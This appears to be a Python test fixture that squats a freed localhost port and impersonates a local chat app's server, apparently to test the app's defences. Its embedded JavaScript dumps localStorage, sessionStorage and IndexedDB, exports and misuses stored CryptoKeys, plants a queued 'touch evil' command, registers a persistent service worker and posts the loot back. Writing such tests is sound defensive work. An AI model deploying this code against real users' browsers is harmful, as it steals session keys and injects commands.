"""Another account's program on the page's port: it serves a page of its own there and takes what it can get."""

from __future__ import annotations

import asyncio
import contextlib
import socket
from typing import Any

from aiohttp import WSMsgType, web

CLAIM = {"nonce": "cd" * 16, "session": "", "proof": "00" * 32, "seal": "00" * 32, "messages": [], "commands": []}
FOREVER = {"Cache-Control": "public, max-age=31536000, immutable"}
PAGE = '<!doctype html><title>mine</title><h1>Squatted</h1><script src="/static/x/app.js"></script>'
WORKER = """
self.addEventListener("install", (event) => event.waitUntil(
  caches.open("x").then((cache) => cache.addAll(["/", "/static/x/app.js"])).then(() => self.skipWaiting())));
self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
self.addEventListener("fetch", (event) => event.respondWith(
  caches.match(event.request, { ignoreSearch: true }).then((kept) => kept ?? fetch(event.request))));
"""
SCRIPT = """
const hex = (buffer) => [...new Uint8Array(buffer)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
const waiting = (request) => new Promise((resolve, reject) => {
  request.onsuccess = () => resolve(request.result);
  request.onerror = () => reject(request.error);
});

async function records() {
  const found = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await waiting(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      found.push(...(await waiting(database.transaction(store).objectStore(store).getAll())));
    }
    database.close();
  }
  return found;
}

async function exported(key) {
  const got = [];
  for (const format of ["raw", "jwk", "pkcs8", "spki"]) {
    await crypto.subtle.exportKey(format, key).then((value) => got.push(value.k ?? hex(value)), () => {});
  }
  return got;
}

const signed = async (key, text) => hex(await crypto.subtle.sign("HMAC", key, new TextEncoder().encode(text)));

// as the real page would, with its key and what the server says
async function talk(key) {
  const socket = new WebSocket(`ws://${location.host}/chat`);
  const nonce = "ab".repeat(16);
  await new Promise((resolve) => { socket.onopen = resolve; socket.onerror = resolve; });
  if (socket.readyState !== 1) return;
  socket.onmessage = async ({ data }) => {
    const { type, nonce: theirs } = JSON.parse(data);
    if (type === "proof" && key) {
      socket.send(JSON.stringify({ proof: await signed(key, `page ${location.port} ${nonce} ${theirs}`) }));
    }
    if (type === "hello") socket.send(JSON.stringify({ do: "send", id: "evil", text: "/submit -g 0 touch evil" }));
  };
  socket.send(JSON.stringify({ nonce }));
}

(async () => {
  const loot = { href: location.href, local: { ...localStorage }, session: { ...sessionStorage } };
  const kept = (await records()).filter((record) => record.key instanceof CryptoKey);
  loot.keys = kept.length;
  loot.exported = (await Promise.all(kept.map(({ key }) => exported(key)))).flat();
  loot.signed = {};
  for (const { key, session } of kept) {
    const proof = `page ${location.port} ${"ab".repeat(16)} ${"cd".repeat(16)}`;
    for (const text of [proof, `key ${session}`, `seal ${session}`]) {
      loot.signed[text] = await signed(key, text);
    }
  }
  const evil = JSON.stringify([{ id: "evil", text: "/submit -g 0 touch evil", replyTo: null, sentTo: null, after: 0 }]);
  for (const name of ["nightshift.outbox", "nightshift.shelf"]) sessionStorage.setItem(name, evil);
  localStorage.setItem("nightshift.outbox", evil);
  await navigator.serviceWorker.register("/worker.js", { scope: "/" }).then(() => navigator.serviceWorker.ready);
  await fetch("/loot", { method: "POST", body: JSON.stringify(loot) }).catch(() => {});
  await talk(kept[0]?.key);
})();
"""


class Squatter:
    """Has the port as soon as it is free."""

    def __init__(self, port: int) -> None:
        self._port = port
        self.frames: list[str] = []  # what pages said to it
        self.loot: asyncio.Future[dict[str, Any]] = asyncio.get_running_loop().create_future()
        app = web.Application()
        app.router.add_get("/", self._page)
        app.router.add_get("/static/{session}/{name}", self._script)
        app.router.add_get("/worker.js", self._worker)
        app.router.add_get("/chat", self._chat)
        app.router.add_post("/loot", self._take)
        self._runner = web.AppRunner(app, shutdown_timeout=0.1, access_log=None)

    async def __aenter__(self) -> Squatter:
        await self._runner.setup()
        self._site = web.SockSite(self._runner, await self._bound())
        await self._site.start()
        return self

    async def __aexit__(self, *_exception: object) -> None:
        await self._site.stop()
        await self._runner.cleanup()
        # A connection that was just accepted is known to the runner only some turns later: end it too.
        loop = asyncio.get_running_loop()
        for _ in range(20):
            for transport in list(loop._transports.values()):  # type: ignore[attr-defined]
                if (transport.get_extra_info("sockname") or (None, None))[1] == self._port:
                    transport.abort()
            await asyncio.sleep(0.01)

    async def _bound(self) -> socket.socket:
        while True:
            with contextlib.suppress(OSError):
                return socket.create_server(("127.0.0.1", self._port))
            await asyncio.sleep(0.01)

    async def _page(self, _request: web.Request) -> web.Response:
        return web.Response(text=PAGE, content_type="text/html", headers=FOREVER)

    async def _script(self, _request: web.Request) -> web.Response:
        return web.Response(text=SCRIPT, content_type="text/javascript", headers=FOREVER)

    async def _worker(self, _request: web.Request) -> web.Response:
        return web.Response(text=WORKER, content_type="text/javascript", headers=FOREVER)

    async def _take(self, request: web.Request) -> web.Response:
        if not self.loot.done():
            self.loot.set_result(await request.json())
        return web.Response()

    async def _chat(self, request: web.Request) -> web.WebSocketResponse:
        """Claim to be the server, in every way that needs no secret."""
        page = web.WebSocketResponse()
        await page.prepare(request)
        async for frame in page:
            if frame.type is WSMsgType.TEXT:
                self.frames.append(frame.data)
                if "nonce" in frame.json():
                    await self._claim(page)
        return page

    async def _claim(self, page: web.WebSocketResponse) -> None:
        for claim in ("proof", "hello"):
            with contextlib.suppress(ConnectionError):  # it has hung up
                await page.send_json({"type": claim, **CLAIM})
